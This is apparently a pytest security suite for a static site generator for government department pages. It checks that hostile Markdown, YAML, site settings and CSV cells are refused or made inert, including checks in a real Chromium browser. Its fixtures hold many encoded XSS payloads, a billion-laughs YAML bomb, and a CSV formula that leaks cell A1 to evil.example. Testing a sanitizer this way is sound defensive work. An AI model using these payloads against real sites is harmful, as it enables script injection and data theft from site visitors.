"""What a department's editors write ends in a clean `path:line` error or inert output: URL schemes however encoded,
raw HTML, attachment types, files only unpublished items use, hostile front matter and site.yaml, CSV formulas,
replies dated later, maintainers' handles; and in Chromium, pages built from hostile Markdown run no script."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from helpers import BASIC, ENGINES, NOW, SITE, dept, front, image, pdf, site_for, write_site

from releasehall.read import safeurl


def build(run_cli, site: Path, *extra: str) -> tuple[int, str]:
    code, _out, err = run_cli("build", "--site", str(site), "--out", str(site / "out"), "--now", NOW, *extra)
    assert "Traceback" not in err
    return code, err


def read(site: Path, rel: str) -> str:
    return (site / "out" / rel).read_text(encoding="utf-8")


# --- URL schemes: decided once, on the fully decoded value -------------------------------------------------------

SCRIPT_URLS = [
    "javascript%3Aalert(1)", "%6Aavascript:alert(2)", "data%3Atext/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==",
    "java%0ascript:alert(4)", "JaVaScRiPt%3Aalert(6)", "%256Aavascript:alert(7)", "vbscript%3Amsgbox(8)",
    "java%09script:alert(9)", "%20javascript:alert(10)", "jav&#x61;script%3Aalert(11)",
]


@pytest.mark.parametrize("value", SCRIPT_URLS)
def test_script_schemes_are_refused_however_encoded(value):
    assert safeurl.refusal(value) is not None


@pytest.mark.parametrize("value", ["https://example.gov.cn/a%20b", "HTTP://x.cn", "mailto:a@b.cn", "tel:12345",
                                   "../a.md", "/police/", "说明.md", "%E8%AF%B4.md", "#fn-1", "a.pdf?x=javascript:1"])
def test_plain_schemes_and_site_links_pass(value):
    assert safeurl.refusal(value) is None


def test_a_scheme_that_appears_only_after_decoding_is_refused_even_when_allowed():
    assert safeurl.refusal("https%3A//evil.example/")[1].startswith("the URL scheme 'https:' is written encoded")


HOSTILE_LINKS = """正文

[a](javascript%3Aalert(1))

[b](%6Aavascript:alert(2))

[c](data%3Atext/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==)

[d](java%0ascript:alert(4))

<a href="JaVaScRiPt%3Aalert(6)">f</a>

<blockquote cite="javascript:alert(8)"><p>引文</p></blockquote>

<q cite="%6Aavascript:alert(9)">q</q> <del cite="javascript:x">d</del> <ins cite="data:text/html,x">i</ins>

![img](javascript%3Aalert(10))
"""


def hostile_site(root: Path) -> Path:
    return write_site(root, {
        **BASIC,
        "content/police/department.yaml": dept("测试市公安局", level="municipal",
                                               description="简介 [x](javascript%3Aalert(12)) <a href=\"%6Aavascript:y\">y</a>"),
        "content/police/releases/h.md": front({"title": "恶意链接", "date": "2024-10-01"}, HOSTILE_LINKS),
        "content/police/qa/h.md": front({"title": "问", "asked": "2024-10-01", "question": "q",
                                         "replied": "2024-10-02"}, HOSTILE_LINKS),
    })


def test_script_urls_reach_no_page_or_feed_and_each_is_warned_at_its_line(tmp_path, run_cli):
    site = hostile_site(tmp_path)
    code, err = build(run_cli, site)
    assert code == 0, err
    for path in sorted((site / "out").rglob("*")):
        if path.suffix in (".html", ".xml", ".json"):
            text = path.read_text(encoding="utf-8").lower()
            assert not re.search(r"javascript|vbscript|data%3a|data:text", text), path
    warned = sorted(int(line.split(":")[1]) for line in err.splitlines()
                    if line.startswith("content/police/releases/h.md:") and "scheme" in line)
    # front matter is lines 1-4; the body starts at line 5
    assert warned == [7, 9, 11, 13, 15, 17, 19, 19, 19, 21]
    assert any(line.startswith("content/police/department.yaml:3: ") and "'javascript:' is not allowed" in line
               for line in err.splitlines()), err


# --- Markdown post-processing: footnote labels, lines of broken links ---------------------------------------------

def test_only_cmarks_own_footnote_backlinks_get_the_backlink_label(tmp_path, run_cli):
    body = ('\n正文[^1] <a aria-label="作者写的说明" href="../qa/q1.md">链接</a>\n\n'
            '<a aria-label="Back to reference 1" href="#fn-1">x</a>\n\n[^1]: 注释\n')
    site = write_site(tmp_path, {**BASIC, "content/police/releases/f.md": front(
        {"title": "脚注", "date": "2024-10-01"}, body)})
    assert build(run_cli, site)[0] == 0
    page = read(site, "police/releases/f/index.html")
    assert 'aria-label="作者写的说明"' in page
    assert 'aria-label="Back to reference 1"' in page  # the author's, kept
    assert page.count('aria-label="返回正文 / back to text"') == 1


def test_a_broken_link_is_reported_at_its_own_line_and_repeats_in_order(tmp_path, run_cli):
    body = "\n提到 none.md 的文字\n\n第一次[甲](none.md)\n\n第二次[乙](none.md)\n\n双重编码[丙](%2561.md)\n"
    site = write_site(tmp_path, {**BASIC, "content/police/releases/b.md": front(
        {"title": "坏链接", "date": "2024-10-01"}, body)})
    code, err = build(run_cli, site)
    assert code == 1
    found = [":".join(line.split(":")[:2]) + " " + line.split("/ ")[-1] for line in err.splitlines()
             if line.startswith("content/police/releases/b.md")]
    assert found == [
        "content/police/releases/b.md:8 link 'none.md' names no file (content/police/releases/none.md); check the path",
        "content/police/releases/b.md:10 link 'none.md' names no file (content/police/releases/none.md); check the path",
        "content/police/releases/b.md:12 link '%61.md' names no file (content/police/releases/%61.md); check the path",
    ]


# --- Attachments: only document, image, audio, video and archive types -------------------------------------------

@pytest.mark.parametrize("name", ["evil.html", "evil.htm", "evil.svg", "evil.xhtml", "evil.js", "evil.xml",
                                  "evil.SVG", "noext", "evil.shtml", "evil.mhtml", "evil.swf"])
def test_attachments_of_a_type_a_browser_could_run_are_errors_at_the_file(tmp_path, run_cli, name):
    site = write_site(tmp_path, {**BASIC, f"content/police/releases/{name}": "<svg onload=alert(1)>",
                                 f"content/pages/{name}": "<script>alert(2)</script>"})
    code, err = build(run_cli, site)
    assert code == 1
    for rel in (f"content/police/releases/{name}", f"content/pages/{name}"):
        line = next(line for line in err.splitlines() if line.startswith(f"{rel}:1: "))
        assert "may not be published (a browser could run them as a page or script); allowed: pdf, ofd, doc" in line


def test_allowed_attachment_types_are_copied(tmp_path, run_cli):
    files = {f"content/police/releases/files/a.{ext}": b"x" for ext in ("pdf", "OFD", "docx", "wps", "et", "7z",
                                                                        "mp4", "csv", "txt")}
    files["content/police/releases/files/a.webp"] = image(4, 4, "WEBP")  # an image is read (its metadata removed)
    site = write_site(tmp_path, {**BASIC, **files})
    assert build(run_cli, site)[0] == 0
    assert sorted(p.name for p in (site / "out/police/releases/files").iterdir()) == sorted(
        f"a.{ext}" for ext in ("pdf", "OFD", "docx", "wps", "et", "7z", "mp4", "webp", "csv", "txt"))


# --- Files that only unpublished items use wait for them ----------------------------------------------------------

def scheduled_site(root: Path) -> Path:
    return write_site(root, {
        **BASIC,
        "content/police/releases/later.md": front({"title": "定时发布", "date": "2024-11-01"},
                                                  "\n![预告图](img/later.png) [附件](files/plan.pdf)\n"),
        "content/police/releases/draft.md": front({"title": "草稿", "date": "2024-10-01", "draft": True},
                                                  "\n![草稿图](img/draft.png) ![共用](img/shared.png)\n"),
        "content/police/releases/now.md": front({"title": "已发布", "date": "2024-10-01"},
                                                "\n![共用](img/shared.png)\n"),
        "content/police/releases/img/later.png": image(4, 3, color=(1, 2, 3)),
        "content/police/releases/img/draft.png": image(4, 3, color=(4, 5, 6)),
        "content/police/releases/img/shared.png": image(4, 3, color=(7, 8, 9)),
        "content/police/releases/img/unused.png": image(4, 3, color=(10, 11, 12)),
        "content/police/releases/files/plan.pdf": pdf(2),
    })


def test_files_used_only_by_unpublished_items_are_not_copied_until_published(tmp_path, run_cli):
    site = scheduled_site(tmp_path)
    assert build(run_cli, site)[0] == 0
    out = site / "out/police/releases"
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*.*") if p.is_file() and p.suffix != ".html") == [
        "img/shared.png", "img/unused.png"]
    code, _out, _err = run_cli("build", "--site", str(site), "--out", str(site / "out"), "--now", "2024-11-02")
    assert code == 0
    assert (out / "img/later.png").read_bytes() == image(4, 3, color=(1, 2, 3))
    assert (out / "files/plan.pdf").is_file() and not (out / "img/draft.png").exists()
    code, _out, _err = run_cli("build", "--site", str(site), "--out", str(site / "out"), "--now", "2024-11-02",
                               "--drafts")
    assert code == 0 and (out / "img/draft.png").is_file()


def test_withheld_files_agree_between_incremental_and_clean_builds(tmp_path, run_cli):
    site = scheduled_site(tmp_path / "a")
    assert build(run_cli, site)[0] == 0
    (site / "content/police/releases/later.md").write_text(
        front({"title": "定时发布", "date": "2024-10-02"}, "\n![预告图](img/later.png)\n"), encoding="utf-8")
    assert build(run_cli, site)[0] == 0
    clean = scheduled_site(tmp_path / "b")
    (clean / "content/police/releases/later.md").write_text(
        (site / "content/police/releases/later.md").read_text(encoding="utf-8"), encoding="utf-8")
    assert run_cli("build", "--site", str(clean), "--out", str(clean / "out"), "--now", NOW, "--no-cache")[0] == 0

    def files(root: Path) -> dict[str, bytes]:
        return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}

    assert files(site / "out") == files(clean / "out")
    assert (site / "out/police/releases/img/later.png").is_file()
    assert (site / "out/police/releases/files/plan.pdf").is_file()  # no longer used by the scheduled item
    assert not (site / "out/police/releases/img/draft.png").exists()


# --- Inputs that used to end in a traceback -----------------------------------------------------------------------

def error_lines(err: str, rel: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith(f"{rel}:")]


BILLION_LAUGHS = 'title: &a ["哈","哈","哈","哈","哈","哈","哈","哈","哈"]\n' + "".join(
    f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))


@pytest.mark.parametrize(("front_matter", "line", "fragment"), [
    ("title: !!int abc\ndate: 2024-10-01\n", 2, "does not fit its type tag"),
    ("title: t\ndate: 2024-10-01\norder: !!float x\n", 4, "does not fit its type tag"),
    ("title: t\ndraft: !!bool maybe\ndate: 2024-10-01\n", 3, "does not fit its type tag"),
    ("title: t\ndate: 2024-10-01\nsummary: " + "9" * 5000 + "\n", 4, "the number is too long"),
    ("title: &t 标题\nsummary: *t\ndate: 2024-10-01\n", 2, "anchors and aliases (& and *) are not allowed"),
    ("title: &t [*t]\ndate: 2024-10-01\n", 2, "anchors and aliases"),
    (BILLION_LAUGHS, 2, "anchors and aliases"),
    ("title: t\ndate: 2024-10-01\ntopics: " + "[" * 5000 + "]" * 5000 + "\n", 4, "nests more than 50 levels"),
    ("title: t\ndate: 0001-01-01\n", 3, "out of range: the year must be 1900-2999"),
    ("title: t\ndate: 9999-12-31 23:59\n", 3, "out of range"),
    ("title: t\ndate: 2024-10-01\n? [a]\n: 1\n", 4, "found unhashable key"),
    ("title：测试\ndate: 2024-10-01\n", 2, "'title' is followed by a full-width colon '：'"),
    ("title: t\ndate: 2024-10-01\ntopics:\n\t- 救助\n", 5, "cannot be indented with a tab"),
])
def test_hostile_front_matter_is_a_one_line_error_at_its_line(tmp_path, run_cli, front_matter, line, fragment):
    site = write_site(tmp_path, {**BASIC, "content/police/releases/x.md": f"---\n{front_matter}---\n正文\n"})
    code, err = build(run_cli, site)
    assert code == 1
    found = error_lines(err, "content/police/releases/x.md")
    assert len(found) == 1 and found[0].startswith(f"content/police/releases/x.md:{line}: ") and fragment in found[0], err


def test_billion_laughs_fails_in_well_under_a_second():
    import time

    from releasehall.errors import Report
    from releasehall.read.sources import load_yaml

    started = time.perf_counter()
    assert load_yaml(BILLION_LAUGHS * 50, "x.md", 2, Report()) is None
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize(("extra", "line", "fragment"), [
    ("paginate: " + "9" * 5000, 3, "the number is too long"),
    ("stale_after_days: 99999999999999999999", 3, "expected a whole number from 1 to 1000000"),
    ("reply_limits:\n  normal: 100000", 4, "expected a whole number from 1 to 365"),
    ("base_url: x.gov.cn", 2, "'x.gov.cn' is not a valid base URL"),
    ("base_url: javascript://%0aalert(document.domain)//", 2, "is not a valid base URL"),
    ("base_url: 'https://x.gov.cn/\"><script>'", 2, "is not a valid base URL"),
])
def test_hostile_site_yaml_is_a_path_line_error(tmp_path, run_cli, extra, line, fragment):
    text = "title: 测试发布厅\n" + ("" if extra.startswith("base_url") else "base_url: https://hall.example.gov.cn/\n")
    site = write_site(tmp_path, {**BASIC, "site.yaml": text + extra + "\n"})
    code, err = build(run_cli, site)
    assert code == 1
    found = error_lines(err, "site.yaml")
    assert len(found) == 1 and found[0].startswith(f"site.yaml:{line}: ") and fragment in found[0], err


@pytest.mark.parametrize("value", ["x.gov.cn", "javascript://%0aalert(document.domain)//", "https://x.gov.cn/?a=1",
                                   "https://user@x.gov.cn/", 'https://x.gov.cn/"onload=x', "ftp://x.gov.cn/"])
def test_base_url_flag_passes_the_same_check_as_site_yaml(tmp_path, run_cli, value):
    site = write_site(tmp_path, BASIC)
    with pytest.raises(SystemExit) as exit_info:
        run_cli("build", "--site", str(site), "--out", str(site / "out"), "--base-url", value)
    assert exit_info.value.code == 2
    assert not (site / "out").exists()


def test_now_out_of_range_is_a_usage_error(tmp_path, run_cli):
    site = write_site(tmp_path, BASIC)
    with pytest.raises(SystemExit) as exit_info:
        run_cli("build", "--site", str(site), "--out", str(site / "out"), "--now", "9999-12-31")
    assert exit_info.value.code == 2


def test_control_characters_are_removed_with_a_warning(tmp_path, run_cli):
    site = write_site(tmp_path, {**BASIC, "content/police/releases/c.md":
                                 "---\ntitle: 标\x01题\ndate: 2024-10-01\n---\n正文\x0c第二\x00段\n"})
    code, err = build(run_cli, site)
    assert code == 0, err
    assert error_lines(err, "content/police/releases/c.md") == [
        "content/police/releases/c.md:2: 警告 warning: 删除了 3 个不可见的控制字符（第一个是 U+0001），请检查文字是否完整 / "
        "removed 3 invisible control character(s) (the first is U+0001); check the text is complete"]
    assert re.search(r"<h1[^>]*>标题</h1>", read(site, "police/releases/c/index.html"))
    assert "正文第二段" in read(site, "feed.xml")


def test_very_long_chinese_file_names_and_topics_get_a_short_stable_slug(tmp_path, run_cli):
    name = "关于进一步加强和改进冬季供暖期间城乡居民生活保障与安全生产工作的通知" * 2
    site = write_site(tmp_path, {**BASIC, f"content/police/releases/{name[:80]}.md": front(
        {"title": "长", "date": "2024-10-01", "topics": [name[:80]]}, "\n正文\n")})
    code, err = build(run_cli, site)
    assert code == 0, err
    pages = [p.parent.name for p in (site / "out/police/releases").glob("*/index.html")]
    long = [slug for slug in pages if slug.startswith("guan-yu-jin-yi-bu")]
    assert len(long) == 1 and len(long[0]) <= 80 and re.fullmatch(r"[a-z0-9-]+-[0-9a-f]{8}", long[0])
    topics = [p.name for p in (site / "out/topics").iterdir() if p.name.startswith("guan-yu")]
    assert topics == [long[0]]


def test_full_width_commas_and_enumeration_commas_split_topics(tmp_path, run_cli):
    site = write_site(tmp_path, {**BASIC, "content/police/releases/t.md":
                                 "---\ntitle: 话题\ndate: 2024-10-01\ntopics: [救助，冬季、供暖]\n---\n正文\n"})
    assert build(run_cli, site)[0] == 0
    page = read(site, "police/releases/t/index.html")
    assert all(f'href="/topics/{slug}/"' in page for slug in ("jiu-zhu", "dong-ji", "gong-nuan"))


# --- CSV formula injection ----------------------------------------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized_numbers_stay_numbers():
    from releasehall.outputs.csvdata import to_csv

    rows = [["department", "name", "figure"],
            ["a", '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', -3],
            ["b", "+1", 2.5], ["c", "-1+2", None], ["d", "@SUM(A1)", 0], ["e", "\tx", 1], ["f", "\rx", 1],
            ["g", "公安局", -0.5]]
    assert to_csv(rows).decode("utf-8") == (
        "\ufeffdepartment,name,figure\n"
        "a,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"点击查看\"\")\",-3\n"
        "b,'+1,2.5\nc,'-1+2,\nd,'@SUM(A1),0\ne,'\tx,1\nf,\"'\nx\",1\ng,公安局,-0.5\n")


def test_a_department_named_like_a_formula_lands_in_stats_csv_as_text(tmp_path, run_cli):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    site = write_site(tmp_path, {**BASIC, "content/police/department.yaml": dept(evil)})
    assert build(run_cli, site)[0] == 0
    rows = read(site, "stats/stats.csv").splitlines()
    police = next(row for row in rows if row.startswith("police,"))
    assert police.startswith("police,\"'=HYPERLINK(")


# --- Replies dated after "now" ------------------------------------------------------------------------------------

def test_a_reply_dated_after_now_is_a_warning_and_not_shown_until_then(tmp_path, run_cli):
    later = {"title": "未来答复", "asked": "2024-10-18 09:00", "question": "何时开放？",
             "replied": "2024-10-20 15:00", "resolved": "2024-10-21", "satisfaction": "satisfied"}
    site = write_site(tmp_path, {**BASIC, "content/police/qa/later.md": front(later, "\n下周开放（未来的答复）。\n")})
    code, err = build(run_cli, site)  # now is 2024-10-20 12:00: the reply is three hours away
    assert code == 0, err
    warned = error_lines(err, "content/police/qa/later.md")
    assert [line.split(": ")[0] for line in warned] == ["content/police/qa/later.md:5", "content/police/qa/later.md:6"]
    assert all("is later than now" in line for line in warned)
    for path in sorted((site / "out").rglob("*")):
        if path.is_file() and path.suffix in (".html", ".xml", ".json", ".csv"):
            assert "未来的答复" not in path.read_text(encoding="utf-8"), path
    record = next(q for q in __import__("json").loads(read(site, "stats/stats.json"))["questions"]
                  if q["id"] == "police/qa/later")
    assert record["replied"] is None and record["status"] == "pending"
    code, _out, _err = run_cli("build", "--site", str(site), "--out", str(site / "out"), "--now", "2024-10-20 15:00")
    assert code == 0
    assert "未来的答复" in read(site, "police/qa/later/index.html") and "未来的答复" in read(site, "feed.xml")


# --- Smaller: RSS channel description, maintainers ----------------------------------------------------------------

def test_the_rss_channel_description_is_escaped_like_item_summaries(tmp_path, run_cli):
    import feedparser

    site = write_site(tmp_path, BASIC, {**SITE, "description": "<img src=x onerror=alert(1)> 政务 & 公开"})
    assert build(run_cli, site)[0] == 0
    rss = read(site, "feed.xml")
    assert "<description>&amp;lt;img src=x onerror=alert(1)&amp;gt; 政务 &amp;amp; 公开</description>" in rss
    assert feedparser.parse(rss).feed.subtitle == "&lt;img src=x onerror=alert(1)&gt; 政务 &amp; 公开"
    atom = feedparser.parse(read(site, "atom.xml"))  # Atom says its subtitle is text, so it is shown as text
    assert (atom.feed.subtitle_detail.type, atom.feed.subtitle) == ("text/plain", "<img src=x onerror=alert(1)> 政务 & 公开")


@pytest.mark.parametrize("handle", ["张三", "alice", "b@x.cn", "@", "@-x", "@a/b c", "@alice\n/content/ @evil"])
def test_maintainers_must_be_code_host_handles(tmp_path, run_cli, handle):
    site = write_site(tmp_path, {**BASIC, "content/police/department.yaml": dept("公安", maintainers=[handle])})
    code, err = build(run_cli, site)
    assert code == 1
    assert "is not a code-host handle: write @user or @org/team" in error_lines(
        err, "content/police/department.yaml")[0]


# --- In a real browser: a page built from hostile Markdown runs no script ------------------------------------------

BROWSER_PAYLOADS = HOSTILE_LINKS + """
[k](javascript%3Awindow.__pwned%3D1)

[l](%6A%61vascript:window.__pwned=2)

[m](JAVA%0D%0ASCRIPT:window.__pwned=3)

<a href="&#106;avascript:window.__pwned=4">n</a> <a href=" javascript:window.__pwned=5">o</a>

<a href="java&#9;script:window.__pwned=6">p</a> <a href="data:text/html,<script>alert(7)</script>">q</a>

<img src="https://img.example/x.png" onerror="window.__pwned=8"> <svg onload="window.__pwned=9"></svg>

<details open ontoggle="window.__pwned=10"><summary>s</summary></details>

[r](https://ok.example/) [s](mailto:a@b.cn) [t](tel:12345) [u](../qa/h.md)
"""


def test_a_page_built_from_hostile_markdown_runs_no_script_in_chromium(tmp_path, run_cli, browser):
    import functools
    import http.server
    import threading

    site = hostile_site(tmp_path)
    (site / "content/police/releases/h.md").write_text(
        front({"title": "恶意链接", "date": "2024-10-01"}, BROWSER_PAYLOADS), encoding="utf-8")
    code, err = build(run_cli, site)
    assert code == 0, err
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site / "out"))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    dialogs: list[str] = []
    clicked = 0
    try:
        page = browser.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.abort())
        for path in ("/police/releases/h/", "/police/qa/h/", "/police/"):
            page.goto(base + path)
            page.wait_for_load_state("load")
            # the browser's own reading of every URL on the page: only the allowed schemes
            protocols = page.eval_on_selector_all(
                "[href], [src], [cite]",
                "els => els.map(e => new URL(e.getAttribute('href') ?? e.getAttribute('src') ?? "
                "e.getAttribute('cite'), location.href).protocol)")
            assert set(protocols) <= {"http:", "https:", "mailto:", "tel:"}, (path, protocols)
            count = page.locator("main a").count() if path == "/police/releases/h/" else 0
            for index in range(count):
                page.goto(base + path)
                link = page.locator("main a").nth(index)
                if (link.get_attribute("href") or "").startswith(("mailto:", "tel:", "http")):
                    continue  # leaves the hall: not ours to follow
                clicked += 1
                link.click()  # a script URL would run in this page; a site link loads another page
                page.wait_for_load_state("load")
                assert page.evaluate("window.__pwned === undefined"), (path, index)
            assert page.evaluate("window.__pwned === undefined")
        assert clicked >= 10
        page.close()
    finally:
        httpd.shutdown()
    assert dialogs == []


@pytest.mark.parametrize("epoch", ["99999999999999999", "99999999999"])
def test_source_date_epoch_out_of_range_is_a_usage_error(tmp_path, run_cli, monkeypatch, epoch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    site = write_site(tmp_path, BASIC)
    with pytest.raises(SystemExit) as exit_info:
        run_cli("build", "--site", str(site), "--out", str(site / "out"))
    assert exit_info.value.code == 2


# --- In a real browser: every URL-bearing attribute, styles, SVG/MathML, both engines, the mirror ---------------

HOSTILE_MARKUP = """
第一段 <img src="https://img.example/x.png" onerror="window.__pwned=1">

[a](javascript:window.__pwned=2) [b](&#x6A;avascript:window.__pwned=3) [c](java&#x09;script:window.__pwned=4)
<javascript:window.__pwned=5> [ref] ![img](javascript:window.__pwned=6 "t\\" onerror=window.__pwned=7")

[ref]: javascript:window.__pwned=8

<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58window.__pwned=9">A</a>
<a href="javascript&colon;window.__pwned=10">B</a> <a href="&NewLine;javascript:window.__pwned=11">C</a>
<a xlink:href="javascript:window.__pwned=12">D</a> <a href="https://ok.example/" ping="https://evil.example/">E</a>
<img src="https://img.example/a.png" srcset="javascript:window.__pwned=13 1x" alt="x">
<img src="https://img.example/a.png" usemap="#m"><map name="m"><area href="javascript:window.__pwned=14"
shape="rect" coords="0,0,100,100"></map>
<blockquote cite="javascript:window.__pwned=15">q</blockquote>
<video poster="javascript:window.__pwned=16" src="javascript:1"></video>
<form action="javascript:window.__pwned=17"><button formaction="javascript:window.__pwned=18">F</button></form>
<svg><a xlink:href="javascript:window.__pwned=19"><text x=0 y=20>svg</text></a><animate onbegin="window.__pwned=20"/></svg>
<math><mtext><table><mglyph><style><img src=https://img.example/x onerror=window.__pwned=21></style></mglyph></table></mtext></math>
<math href="javascript:window.__pwned=22">m</math>
<table background="javascript:window.__pwned=23"><tr><td>t</td></tr></table>
<div data-href="javascript:window.__pwned=24" style="background:url(javascript:window.__pwned=25)">d</div>
<p style="width:expression(window.__pwned=26)">p</p>
<style>body{background:url("javascript:window.__pwned=27")}</style>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=28">
<base href="javascript:window.__pwned=29//">
<iframe srcdoc="<script>parent.__pwned=30</script>"></iframe>
<object data="javascript:window.__pwned=31"></object><embed src="javascript:window.__pwned=32">
<details open ontoggle="window.__pwned=33">d</details>
<noscript><p title="</noscript><img src=https://img.example/x onerror=window.__pwned=34>"></noscript>

[站内](a.md) [外部](https://ok.example/)
"""


def test_hostile_pages_run_no_script_in_chromium_under_both_engines_and_in_the_mirror(tmp_path, run_cli, browser):
    import functools
    import http.server
    import threading

    pages = []
    for engine in ENGINES:
        site = write_site(tmp_path / engine, {
            **BASIC, "content/police/releases/h.md": front({"title": "恶意</script><script>window.__pwned=40</script>",
                                                            "date": "2024-10-01", "summary": "\"><svg onload=window.__pwned=41>"},
                                                           HOSTILE_MARKUP)},
            {**site_for(engine), "variants": ["zh-Hant"]})
        code, err = build(run_cli, site)
        assert code == 0, err
        pages += [(tmp_path / engine / "out", path) for path in ("/police/releases/h/", "/zh-hant/police/releases/h/")]
    dialogs: list[str] = []
    for out in sorted({out for out, _path in pages}):
        handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(out))
        httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
        base = f"http://127.0.0.1:{httpd.server_address[1]}"
        page = browser.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: route.abort())
        try:
            for path in (p for o, p in pages if o == out):
                page.goto(base + path)
                page.wait_for_load_state("load")
                protocols = page.eval_on_selector_all(
                    "[href], [src], [cite], [action], [formaction], [poster], [background], [data], [srcset]",
                    "els => els.flatMap(e => ['href', 'src', 'cite', 'action', 'formaction', 'poster', 'background', "
                    "'data', 'srcset'].filter(a => e.hasAttribute(a)).map(a => new URL(e.getAttribute(a).split(' ')[0], "
                    "location.href).protocol))")
                assert set(protocols) <= {"http:", "https:", "mailto:", "tel:"}, (path, protocols)
                # the page's own QR code (an SVG the build draws from the page's URL) is the theme's, not the body's
                assert page.evaluate("[...document.querySelectorAll('main script, main style, main iframe, main svg, "
                                     "main math, main form, main object, main embed, main base, main meta, "
                                     "main [style]')].filter(e => !e.closest('.qr-code')).length") == 0
                links = page.locator("main a")
                for index in range(links.count()):
                    page.goto(base + path)
                    link = page.locator("main a").nth(index)
                    if (link.get_attribute("href") or "").startswith(("mailto:", "tel:", "http")):
                        continue  # leaves the hall
                    link.click()
                    page.wait_for_load_state("load")
                    assert page.evaluate("typeof window.__pwned") != "number", (path, index)
                assert page.evaluate("typeof window.__pwned") != "number", path
        finally:
            page.close()
            httpd.shutdown()
    assert dialogs == []
